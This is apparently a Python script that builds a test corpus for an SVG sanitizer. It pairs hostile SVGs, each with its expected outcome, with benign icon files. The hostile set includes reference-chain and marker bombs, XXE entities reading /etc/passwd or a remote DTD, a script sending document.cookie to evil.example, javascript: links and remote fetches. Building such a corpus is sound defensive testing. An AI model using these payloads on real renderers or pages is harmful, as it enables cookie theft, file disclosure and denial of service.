"""Writes svg_hostile.jsonl and svg_benign.jsonl (run once; the JSONL files are the committed corpus).

Hostile: every failure issue 12 quotes (resvg panics, reference chains that crashed resvg with
SIGSEGV, layer and marker amplification that took 20-90 s in the host), entity, href, CSS and script
variants, and filter, size and parser edge cases. Each has the outcome it must get.

Benign: icon-style files written here in the style of public icon sets (Feather/Lucide stroke icons
on a 24 grid, Material-style filled paths, Bootstrap-style 16-unit icons with even-odd paths), files
as design tools save them (XML declaration, SVG 1.1 DOCTYPE, Inkscape/Sodipodi namespaces, RDF
metadata), and answers as models write them (prose and fences, no xmlns, text labels, drop-shadow
filters, gradients, non-square sizes). At least 99% must be accepted and draw something.
"""
import json
import math
from pathlib import Path

HERE = Path(__file__).parent
H = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="512" height="512" viewBox="0 0 512 512">'
BG = '<rect width="512" height="512" fill="white"/>'


def doc(body: str) -> str:
    return H + body + "</svg>"


def marker_bomb(vertices: int) -> str:
    circles = "".join(f'<circle cx="{(i % 10) * 5}" cy="{(i // 10) * 5}" r="20"/>' for i in range(100))
    pts = " ".join(f"{(i * 7) % 512},{(i * 13) % 512}" for i in range(vertices))
    return doc(f'<defs><g id="g">{circles}</g><marker id="mk" markerWidth="200" markerHeight="200" '
               f'markerUnits="userSpaceOnUse"><use xlink:href="#g"/></marker></defs>'
               f'<polyline points="{pts}" fill="none" stroke="black" stroke-width="5" marker-mid="url(#mk)"/>')


hostile = [
    # the failures issue 12 quotes
    ("panic_huge_path", doc('<path d="M0 0 L1e37 1e37" stroke="black" stroke-width="1e37"/>'), "svg"),
    ("panic_scale", doc('<g transform="scale(1e20)"><rect width="10" height="10" stroke="black"/></g>'), "svg"),
    ("use_chain_200", doc('<defs><rect id="u0" width="5" height="5"/>' + "".join(
        f'<use id="u{i}" xlink:href="#u{i - 1}"/>' for i in range(1, 200)) + '</defs><use xlink:href="#u199"/>'), "svg"),
    ("mask_chain_400", doc("<defs>" + '<mask id="m0"><rect width="512" height="512" fill="white"/></mask>' + "".join(
        f'<mask id="m{i}"><rect width="512" height="512" fill="white" mask="url(#m{i - 1})"/></mask>' for i in range(1, 400))
        + '</defs><rect width="100" height="100" mask="url(#m399)"/>'), "svg"),
    ("pattern_chain_400", doc('<defs><pattern id="p0" width="10" height="10" patternUnits="userSpaceOnUse"><rect width="5" height="5"/>'
        '</pattern>' + "".join(f'<pattern id="p{i}" width="10" height="10" patternUnits="userSpaceOnUse"><rect width="5" height="5" '
                                 f'fill="url(#p{i - 1})"/></pattern>' for i in range(1, 400))
        + '</defs><rect width="100" height="100" fill="url(#p399)"/>'), "svg"),
    ("opacity_stacks_40x60", doc("".join('<g opacity=".99">' * 60 + '<rect width="512" height="512" fill="red"/>' + "</g>" * 60
                                         for _ in range(40))), "svg"),
    ("marker_amplification_6k", marker_bomb(300), "svg"),
    ("marker_amplification_12k", marker_bomb(800), "svg"),
    # more reference-graph bombs
    ("clip_chain_100", doc("<defs>" + '<clipPath id="c0"><rect width="500" height="500"/></clipPath>' + "".join(
        f'<clipPath id="c{i}"><rect width="500" height="500" clip-path="url(#c{i - 1})"/></clipPath>' for i in range(1, 100))
        + '</defs><rect width="100" height="100" clip-path="url(#c99)"/>'), "svg"),
    ("gradient_href_chain_100", doc("<defs>" + '<linearGradient id="g0"><stop offset="0" stop-color="red"/></linearGradient>'
        + "".join(f'<linearGradient id="g{i}" xlink:href="#g{i - 1}"/>' for i in range(1, 100))
        + '</defs><rect width="100" height="100" fill="url(#g99)"/>'), "svg"),
    ("use_billion_laughs", doc('<defs><circle id="l0" r="1"/>' + "".join(
        f'<g id="l{i}">' + f'<use xlink:href="#l{i - 1}"/>' * 10 + "</g>" for i in range(1, 10)) + '</defs><use xlink:href="#l9"/>'),
     "svg"),
    ("use_cycle", doc('<defs><g id="a"><use xlink:href="#b"/></g><g id="b"><use xlink:href="#a"/></g></defs><use xlink:href="#a"/>'),
     "svg"),
    ("use_self", doc('<g id="s"><rect width="9" height="9"/><use xlink:href="#s" x="10"/></g>'), "svg"),
    ("use_root", H.replace("<svg ", '<svg id="root" ') + '<use xlink:href="#root"/></svg>', "svg"),
    ("filter_chain_20", doc("<defs>" + "".join(
        f'<filter id="f{i}"><feGaussianBlur stdDeviation="1"/></filter>' for i in range(20)) + "</defs>" + "".join(
        f'<g filter="url(#f{i})">' for i in range(20)) + '<rect width="512" height="512"/>' + "</g>" * 20
        + "".join(f'<rect width="512" height="512" filter="url(#f{i % 20})"/>' for i in range(60))), "svg"),
    ("css_opacity_stacks", doc("<style>g { opacity: .99 }</style>" + "".join(
        "<g>" * 60 + '<rect width="512" height="512" fill="red"/>' + "</g>" * 60 for _ in range(40))), "svg"),
    ("css_marker_bomb", doc('<style>polyline { marker-mid: url(#mk) }</style><defs><g id="g">' + "".join(
        f'<circle cx="{i}" cy="{i}" r="20"/>' for i in range(100)) + '</g><marker id="mk"><use xlink:href="#g"/></marker></defs>'
        + '<polyline fill="none" stroke="black" points="' + " ".join(f"{i},{(i * 7) % 500}" for i in range(400)) + '"/>'), "svg"),
    # entities and DTDs
    ("entity_billion_laughs", '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
     '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>' + doc("<text>&c;</text>"), "svg"),
    ("entity_external_file", '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + doc("<text>&x;</text>"), "svg"),
    ("entity_parameter", '<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>' + doc(BG), "svg"),
    ("entity_undefined", doc("<text>&undefined;</text>"), "svg"),
    ("doctype_inside", H + '<!DOCTYPE x [<!ENTITY y "z">]>' + BG + "</svg>", "svg"),
    ("processing_instruction", H + '<?xml-stylesheet href="http://evil.example/x.css"?>' + BG + "</svg>", "svg"),
    # external references and scripts
    ("script", doc("<script>fetch('http://evil.example/'+document.cookie)</script>"), "svg"),
    ("script_cdata", doc("<script><![CDATA[alert(1)]]></script>"), "svg"),
    ("onload", H.replace("<svg ", '<svg onload="alert(1)" ') + BG + "</svg>", "svg"),
    ("onclick_uppercase", doc('<rect width="9" height="9" ONCLICK="alert(1)"/>'), "svg"),
    ("anchor_javascript", doc('<a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a>'), "svg"),
    ("foreign_object", doc('<foreignObject width="100" height="100"><iframe src="http://evil.example"/></foreignObject>'), "svg"),
    ("image_http", doc('<image href="http://evil.example/x.png" width="10" height="10"/>'), "svg"),
    ("image_data_uri", doc('<image href="data:image/png;base64,iVBORw0KGgo=" width="10" height="10"/>'), "svg"),
    ("image_file", doc('<image xlink:href="file:///etc/passwd" width="10" height="10"/>'), "svg"),
    ("use_external", doc('<use href="other.svg#shape"/>'), "svg"),
    ("use_file", doc('<use xlink:href="file:///etc/passwd#a"/>'), "svg"),
    ("use_data_uri", doc('<use href="data:image/svg+xml,%3Csvg%3E%3C/svg%3E#a"/>'), "svg"),
    ("css_import", doc("<style>@import url(http://evil.example/x.css);</style>" + BG), "svg"),
    ("css_url_http", doc('<style>rect { fill: url(http://evil.example/p.svg#g) }</style>' + BG), "svg"),
    ("style_attr_url", doc('<rect width="9" height="9" style="fill: url(\'https://evil.example/x\')"/>'), "svg"),
    ("font_face_remote", doc("<style>@font-face { font-family: x; src: url(http://evil.example/f.ttf) }</style>" + BG), "svg"),
    ("fill_url_external", doc('<rect width="9" height="9" fill="url(http://evil.example/p.svg#g)"/>'), "svg"),
    ("fe_image_external", doc('<filter id="f"><feImage href="http://evil.example/x.png"/></filter><rect width="9" height="9" filter="url(#f)"/>'),
     "svg"),
    ("fe_turbulence", doc('<filter id="f"><feTurbulence baseFrequency="0.9" numOctaves="1000"/></filter>'
                          '<rect width="512" height="512" filter="url(#f)"/>'), "svg"),
    ("fe_convolve", doc('<filter id="f"><feConvolveMatrix order="300" kernelMatrix="1"/></filter><rect width="9" height="9" filter="url(#f)"/>'),
     "svg"),
    ("animate", doc('<rect width="9" height="9"><animate attributeName="x" from="0" to="100" dur="1s"/></rect>'), "svg"),
    ("set_element", doc('<rect width="9" height="9"><set attributeName="fill" to="red"/></rect>'), "svg"),
    ("iframe", doc('<iframe src="http://evil.example"/>'), "svg"),
    # size and parser edge cases
    ("over_100kb", doc("<!--" + "x" * 100_001 + "-->"), "svg"),
    ("nested_70", doc("<g>" * 70 + "</g>" * 70), "svg"),
    ("elements_6000", doc("<rect/>" * 6000), "svg"),
    ("truncated", "```svg\n" + H + BG + '<circle cx="256" cy="256" r="100" fill="red"/>', "svg"),
    ("not_well_formed", doc('<rect width="9" height="9">'), "svg"),
    ("nul_byte", doc(BG + '<text x="9" y="9">a\x00b</text>'), "svg"),
    ("lone_surrogate", doc(BG + '<text x="9" y="9">done \ud800</text>'), "svg"),
    ("prose_only", "I cannot draw SVG images, but here is a description of a red circle.", "svg"),
    ("number_inf", doc('<rect width="1e400" height="9"/>'), "svg"),
    ("number_hidden_in_shorthand", doc('<path d="M0 0L1.5.5e99z" stroke="black"/>'), "svg"),
    # within every bound, still bad: the worker's limits have the last word and the pool goes on
    ("panic_nested_scales", doc('<g transform="scale(1000000)">' * 4 + '<rect width="10" height="10" stroke="black"/>' + "</g>" * 4),
     "crash"),
    ("panic_tiny_viewbox", '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 0.000001 0.000001"><rect width="1000000" '
     'height="1000000" stroke="black" stroke-width="1000000"/></svg>', "crash"),
    ("dash_bomb", doc("".join(f'<circle cx="256" cy="256" r="{r}" fill="none" stroke="black" stroke-dasharray="0.001"/>'
                              for r in range(10, 250, 5))), "timeout"),
    ("pattern_tile_memory", doc('<pattern id="p" width="100000" height="100000" patternUnits="userSpaceOnUse" '
                                'patternTransform="scale(100)"><rect width="10" height="10"/></pattern><rect width="512" height="512" '
                                'fill="url(#p)"/>'), "memory"),
    # neutralised rather than refused: never rendered by anyone, so stripped
    ("xinclude", doc('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>' + BG), "ok"),
    # within the bounds: the worker's limits decide, and the pool goes on
    ("huge_blur_region", doc('<filter id="f" x="-1000" y="-1000" width="2000" height="2000" filterUnits="userSpaceOnUse">'
                             '<feGaussianBlur stdDeviation="500"/></filter><rect width="512" height="512" fill="red" filter="url(#f)"/>'), "ok"),
    ("many_stops", doc('<linearGradient id="g">' + "".join(f'<stop offset="{i / 1500:.5f}" stop-color="#{i % 256:02x}0000"/>'
                                                            for i in range(1500)) + '</linearGradient><rect width="512" height="512" fill="url(#g)"/>'),
     "ok"),
]

# ------------------------------------------------------------------------------------ benign icons
# (name, body on a 24-unit grid drawn with strokes, Feather/Lucide style)
STROKE_ICONS = [
    ("circle", '<circle cx="12" cy="12" r="10"/>'),
    ("square", '<rect x="3" y="3" width="18" height="18" rx="2" ry="2"/>'),
    ("x", '<line x1="18" y1="6" x2="6" y2="18"/><line x1="6" y1="6" x2="18" y2="18"/>'),
    ("plus", '<line x1="12" y1="5" x2="12" y2="19"/><line x1="5" y1="12" x2="19" y2="12"/>'),
    ("check", '<polyline points="20 6 9 17 4 12"/>'),
    ("arrow-right", '<line x1="5" y1="12" x2="19" y2="12"/><polyline points="12 5 19 12 12 19"/>'),
    ("arrow-up", '<line x1="12" y1="19" x2="12" y2="5"/><polyline points="5 12 12 5 19 12"/>'),
    ("home", '<path d="M3 9l9-7 9 7v11a2 2 0 0 1-2 2H5a2 2 0 0 1-2-2z"/><polyline points="9 22 9 12 15 12 15 22"/>'),
    ("search", '<circle cx="11" cy="11" r="8"/><line x1="21" y1="21" x2="16.65" y2="16.65"/>'),
    ("user", '<path d="M20 21v-2a4 4 0 0 0-4-4H8a4 4 0 0 0-4 4v2"/><circle cx="12" cy="7" r="4"/>'),
    ("bell", '<path d="M18 8A6 6 0 0 0 6 8c0 7-3 9-3 9h18s-3-2-3-9"/><path d="M13.73 21a2 2 0 0 1-3.46 0"/>'),
    ("heart", '<path d="M20.84 4.61a5.5 5.5 0 0 0-7.78 0L12 5.67l-1.06-1.06a5.5 5.5 0 0 0-7.78 7.78l1.06 1.06L12 21.23l7.78-7.78 1.06-1.06a5.5 5.5 0 0 0 0-7.78z"/>'),
    ("star", '<polygon points="12 2 15.09 8.26 22 9.27 17 14.14 18.18 21.02 12 17.77 5.82 21.02 7 14.14 2 9.27 8.91 8.26 12 2"/>'),
    ("sun", '<circle cx="12" cy="12" r="5"/>' + "".join(
        f'<line x1="{12 + 7 * math.cos(a):.2f}" y1="{12 + 7 * math.sin(a):.2f}" x2="{12 + 10 * math.cos(a):.2f}" y2="{12 + 10 * math.sin(a):.2f}"/>'
        for a in [k * math.pi / 4 for k in range(8)])),
    ("moon", '<path d="M21 12.79A9 9 0 1 1 11.21 3 7 7 0 0 0 21 12.79z"/>'),
    ("cloud", '<path d="M18 10h-1.26A8 8 0 1 0 9 20h9a5 5 0 0 0 0-10z"/>'),
    ("clock", '<circle cx="12" cy="12" r="10"/><polyline points="12 6 12 12 16 14"/>'),
    ("calendar", '<rect x="3" y="4" width="18" height="18" rx="2" ry="2"/><line x1="16" y1="2" x2="16" y2="6"/>'
                 '<line x1="8" y1="2" x2="8" y2="6"/><line x1="3" y1="10" x2="21" y2="10"/>'),
    ("mail", '<path d="M4 4h16c1.1 0 2 .9 2 2v12c0 1.1-.9 2-2 2H4c-1.1 0-2-.9-2-2V6c0-1.1.9-2 2-2z"/><polyline points="22,6 12,13 2,6"/>'),
    ("lock", '<rect x="3" y="11" width="18" height="11" rx="2" ry="2"/><path d="M7 11V7a5 5 0 0 1 10 0v4"/>'),
    ("camera", '<path d="M23 19a2 2 0 0 1-2 2H3a2 2 0 0 1-2-2V8a2 2 0 0 1 2-2h4l2-3h6l2 3h4a2 2 0 0 1 2 2z"/><circle cx="12" cy="13" r="4"/>'),
    ("folder", '<path d="M22 19a2 2 0 0 1-2 2H4a2 2 0 0 1-2-2V5a2 2 0 0 1 2-2h5l2 3h9a2 2 0 0 1 2 2z"/>'),
    ("file", '<path d="M13 2H6a2 2 0 0 0-2 2v16a2 2 0 0 0 2 2h12a2 2 0 0 0 2-2V9z"/><polyline points="13 2 13 9 20 9"/>'),
    ("trash", '<polyline points="3 6 5 6 21 6"/><path d="M19 6v14a2 2 0 0 1-2 2H7a2 2 0 0 1-2-2V6m3 0V4a2 2 0 0 1 2-2h4a2 2 0 0 1 2 2v2"/>'),
    ("play", '<polygon points="5 3 19 12 5 21 5 3"/>'),
    ("pause", '<rect x="6" y="4" width="4" height="16"/><rect x="14" y="4" width="4" height="16"/>'),
    ("music", '<path d="M9 18V5l12-2v13"/><circle cx="6" cy="18" r="3"/><circle cx="18" cy="16" r="3"/>'),
    ("bookmark", '<path d="M19 21l-7-5-7 5V5a2 2 0 0 1 2-2h10a2 2 0 0 1 2 2z"/>'),
    ("flag", '<path d="M4 15s1-1 4-1 5 2 8 2 4-1 4-1V3s-1 1-4 1-5-2-8-2-4 1-4 1z"/><line x1="4" y1="22" x2="4" y2="15"/>'),
    ("map-pin", '<path d="M21 10c0 7-9 13-9 13s-9-6-9-13a9 9 0 0 1 18 0z"/><circle cx="12" cy="10" r="3"/>'),
    ("globe", '<circle cx="12" cy="12" r="10"/><line x1="2" y1="12" x2="22" y2="12"/>'
              '<path d="M12 2a15.3 15.3 0 0 1 4 10 15.3 15.3 0 0 1-4 10 15.3 15.3 0 0 1-4-10 15.3 15.3 0 0 1 4-10z"/>'),
    ("wifi", '<path d="M5 12.55a11 11 0 0 1 14.08 0"/><path d="M1.42 9a16 16 0 0 1 21.16 0"/><path d="M8.53 16.11a6 6 0 0 1 6.95 0"/>'
             '<line x1="12" y1="20" x2="12.01" y2="20"/>'),
    ("battery", '<rect x="1" y="6" width="18" height="12" rx="2" ry="2"/><line x1="23" y1="13" x2="23" y2="11"/>'),
    ("umbrella", '<path d="M23 12a11.05 11.05 0 0 0-22 0zm-5 7a3 3 0 0 1-6 0v-7"/>'),
    ("key", '<path d="M21 2l-2 2m-7.61 7.61a5.5 5.5 0 1 1-7.778 7.778 5.5 5.5 0 0 1 7.777-7.777zm0 0L15.5 7.5m0 0l3 3L22 7l-3-3m-3.5 3.5L19 4"/>'),
    ("settings", '<circle cx="12" cy="12" r="3"/><polygon points="12 1 14 4 18 3 18 7 22 9 19 12 22 15 18 17 18 21 14 20 12 23 10 20 6 21 6 17 2 15 5 12 2 9 6 7 6 3 10 4"/>'),
    ("triangle", '<path d="M10.29 3.86L1.82 18a2 2 0 0 0 1.71 3h16.94a2 2 0 0 0 1.71-3L13.71 3.86a2 2 0 0 0-3.42 0z"/>'),
    ("grid", '<rect x="3" y="3" width="7" height="7"/><rect x="14" y="3" width="7" height="7"/><rect x="14" y="14" width="7" height="7"/>'
             '<rect x="3" y="14" width="7" height="7"/>'),
    ("tree", '<polygon points="12 2 4 14 9 14 5 20 19 20 15 14 20 14"/><line x1="12" y1="20" x2="12" y2="23"/>'),
    ("cup", '<path d="M18 8h1a4 4 0 0 1 0 8h-1"/><path d="M2 8h16v9a4 4 0 0 1-4 4H6a4 4 0 0 1-4-4V8z"/>'),
]
COLORS = ["#e63946", "#1d3557", "#2a9d8f", "#f4a261", "#6a4c93", "#264653", "#ff006e", "#3a86ff"]


def feather(name: str, body: str, k: int) -> str:
    return ('<svg xmlns="http://www.w3.org/2000/svg" width="24" height="24" viewBox="0 0 24 24" fill="none" '
            f'stroke="{"currentColor" if k % 2 else COLORS[k % len(COLORS)]}" stroke-width="2" stroke-linecap="round" '
            f'stroke-linejoin="round" class="feather feather-{name}">{body}</svg>')


def filled(name: str, body: str, k: int) -> str:
    # Material style: the same outlines, filled, on a 24 grid at 48 px, with a background plate
    col = COLORS[(k + 3) % len(COLORS)]
    return (f'<svg xmlns="http://www.w3.org/2000/svg" height="48" width="48" viewBox="0 0 24 24"><title>{name}</title>'
            f'<rect width="24" height="24" rx="4" fill="#f1f1f1"/><g fill="{col}" stroke="{col}" stroke-width="1.5">{body}</g></svg>')


def inkscape(name: str, body: str, k: int) -> str:
    return ('<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
            '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
            '<svg xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:cc="http://creativecommons.org/ns#" '
            'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:svg="http://www.w3.org/2000/svg" '
            'xmlns="http://www.w3.org/2000/svg" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" '
            'xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" width="96" height="96" viewBox="0 0 24 24" '
            f'version="1.1" id="svg{k}" inkscape:version="1.2 (dc2aeda, 2022-05-15)" sodipodi:docname="{name}.svg">\n'
            f'<metadata id="metadata{k}"><rdf:RDF><cc:Work rdf:about=""><dc:format>image/svg+xml</dc:format>'
            '<dc:type rdf:resource="http://purl.org/dc/dcmitype/StillImage"/></cc:Work></rdf:RDF></metadata>\n'
            f'<sodipodi:namedview id="namedview{k}" pagecolor="#ffffff" bordercolor="#666666" inkscape:zoom="8" '
            'inkscape:current-layer="layer1"/>\n'
            f'<g inkscape:label="Layer 1" inkscape:groupmode="layer" id="layer1" fill="none" stroke="{COLORS[k % len(COLORS)]}" '
            f'stroke-width="2" sodipodi:insensitive="true">{body}</g>\n</svg>\n')


models = [
    ("stop_sign", "Here is an SVG of a stop sign:\n\n```svg\n" + H + BG + '<polygon points="150,40 362,40 472,150 472,362 362,472 150,472 40,362 40,150" '
     'fill="#c0392b"/><text x="256" y="300" font-family="Arial, Helvetica, sans-serif" font-size="140" font-weight="bold" '
     'fill="white" text-anchor="middle">STOP</text></svg>\n```\n\nThe octagon is red with white text.'),
    ("letter_t", '<svg width="512" height="512"><rect width="512" height="512" fill="#fafafa"/><text x="256" y="400" '
     'font-size="400" text-anchor="middle" font-family="Georgia, serif">T</text></svg>'),
    ("question_mark", "```xml\n" + H + BG + '<circle cx="256" cy="256" r="220" fill="#3498db"/><text x="256" y="350" font-size="300" '
     'text-anchor="middle" fill="white" font-family="sans-serif">?</text></svg>\n```'),
    ("number_seven", H + BG + '<text x="130" y="420" font-size="420" font-family="monospace" fill="#2c3e50">7</text></svg>'),
    ("clock_face", H + BG + '<circle cx="256" cy="256" r="230" fill="white" stroke="black" stroke-width="12"/>' + "".join(
        f'<text x="{256 + 180 * math.sin(h * math.pi / 6):.1f}" y="{256 - 180 * math.cos(h * math.pi / 6) + 18:.1f}" font-size="48" '
        f'text-anchor="middle">{h if h else 12}</text>' for h in range(12)) + '<line x1="256" y1="256" x2="256" y2="120" '
     'stroke="black" stroke-width="10"/><line x1="256" y1="256" x2="360" y2="256" stroke="black" stroke-width="8"/></svg>'),
    ("drop_shadow", H + '<defs><filter id="s" x="-20%" y="-20%" width="140%" height="140%"><feGaussianBlur in="SourceAlpha" '
     'stdDeviation="8"/><feOffset dx="6" dy="6" result="o"/><feMerge><feMergeNode in="o"/><feMergeNode in="SourceGraphic"/>'
     '</feMerge></filter></defs>' + BG + '<rect x="100" y="100" width="300" height="300" rx="30" fill="#27ae60" filter="url(#s)"/></svg>'),
    ("fe_drop_shadow", H + '<defs><filter id="d"><feDropShadow dx="4" dy="4" stdDeviation="4" flood-color="#000" flood-opacity="0.4"/>'
     '</filter></defs>' + BG + '<circle cx="256" cy="256" r="150" fill="#f39c12" filter="url(#d)"/></svg>'),
    ("gradient_sky", H + '<defs><linearGradient id="sky" x1="0" y1="0" x2="0" y2="1"><stop offset="0" stop-color="#87ceeb"/>'
     '<stop offset="1" stop-color="#ffffff"/></linearGradient><radialGradient id="sun"><stop offset="0" stop-color="#fff176"/>'
     '<stop offset="1" stop-color="#fbc02d"/></radialGradient></defs><rect width="512" height="512" fill="url(#sky)"/>'
     '<circle cx="400" cy="110" r="60" fill="url(#sun)"/><rect y="400" width="512" height="112" fill="#4caf50"/></svg>'),
    ("wide_banner", '<svg xmlns="http://www.w3.org/2000/svg" width="512" height="256" viewBox="0 0 512 256"><rect width="512" height="256" '
     'fill="#fff3e0"/><circle cx="256" cy="128" r="100" fill="#e53935"/></svg>'),
    ("tall_no_viewbox", '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="400"><rect width="200" height="400" fill="#e0f7fa"/>'
     '<rect x="50" y="50" width="100" height="300" fill="#00838f"/></svg>'),
    ("no_xmlns_unfenced", 'Sure! <svg width="512" height="512" viewBox="0 0 512 512"><rect width="512" height="512" fill="#222"/>'
     '<circle cx="256" cy="256" r="120" fill="gold"/></svg> I hope you like it.'),
    ("prefixed_root", '<svg:svg xmlns:svg="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><svg:rect width="10" height="10" fill="navy"/>'
     '<svg:circle cx="5" cy="5" r="3" fill="orange"/></svg:svg>'),
    ("nested_svg", H + BG + '<svg x="100" y="100" width="300" height="300" viewBox="0 0 10 10"><circle cx="5" cy="5" r="5" fill="purple"/>'
     '</svg></svg>'),
    ("prose_mentions_svg", "I will write an <svg> element with a house in it.\n\n```svg\n" + H + BG
     + '<rect x="156" y="256" width="200" height="160" fill="#8d6e63"/><polygon points="136,256 256,140 376,256" fill="#c62828"/></svg>\n```'),
    ("css_classes", H + "<style>.body { fill: #5d4037 } .eye { fill: white; stroke: black; stroke-width: 4 }</style>" + BG
     + '<ellipse class="body" cx="256" cy="300" rx="160" ry="120"/><circle class="eye" cx="210" cy="260" r="24"/>'
     '<circle class="eye" cx="300" cy="260" r="24"/></svg>'),
    ("defs_use_pattern", H + '<defs><pattern id="dots" width="64" height="64" patternUnits="userSpaceOnUse"><circle cx="32" cy="32" r="12" '
     'fill="#90caf9"/></pattern><g id="petal"><ellipse rx="30" ry="80" fill="#ec407a"/></g></defs>'
     '<rect width="512" height="512" fill="url(#dots)"/>' + "".join(
        f'<use href="#petal" transform="translate(256 256) rotate({a}) translate(0 -80)"/>' for a in range(0, 360, 45))
     + '<circle cx="256" cy="256" r="40" fill="#ffeb3b"/></svg>'),
    ("clip_and_mask", H + '<defs><clipPath id="c"><circle cx="256" cy="256" r="200"/></clipPath><mask id="m"><rect width="512" height="512" '
     'fill="white"/><circle cx="256" cy="256" r="80" fill="black"/></mask></defs>' + BG
     + '<rect width="512" height="512" fill="#009688" clip-path="url(#c)" mask="url(#m)"/></svg>'),
    ("markers_arrow", H + '<defs><marker id="a" markerWidth="10" markerHeight="10" refX="5" refY="5" orient="auto">'
     '<path d="M0,0 L10,5 L0,10 z" fill="black"/></marker></defs>' + BG
     + '<polyline points="60,400 200,300 320,340 450,120" fill="none" stroke="black" stroke-width="8" marker-end="url(#a)" '
     'marker-mid="url(#a)"/></svg>'),
    ("group_opacity", H + BG + '<g opacity="0.6"><circle cx="200" cy="256" r="140" fill="red"/><circle cx="312" cy="256" r="140" '
     'fill="blue"/></g></svg>'),
    ("text_path", H + '<defs><path id="arc" d="M 80 300 A 180 180 0 0 1 432 300"/></defs>' + BG
     + '<text font-size="48" fill="#6a1b9a"><textPath href="#arc">Happy Birthday</textPath></text></svg>'),
    ("units_mm", '<svg xmlns="http://www.w3.org/2000/svg" width="100mm" height="50mm"><rect width="100%" height="100%" fill="#fff"/>'
     '<circle cx="189" cy="94" r="80" fill="#1565c0"/></svg>'),
]

benign = []
for k, (name, body) in enumerate(STROKE_ICONS):
    benign.append((f"feather-{name}", feather(name, body, k)))
    benign.append((f"filled-{name}", filled(name, body, k)))
    benign.append((f"inkscape-{name}", inkscape(name, body, k)))
benign += models

if __name__ == "__main__":
    with open(HERE / "svg_hostile.jsonl", "w") as f:
        for name, text, expect in hostile:
            f.write(json.dumps({"id": name, "text": text, "expect": expect}) + "\n")
    with open(HERE / "svg_benign.jsonl", "w") as f:
        for name, text in benign:
            f.write(json.dumps({"id": name, "text": text}) + "\n")
    print(len(hostile), "hostile,", len(benign), "benign")
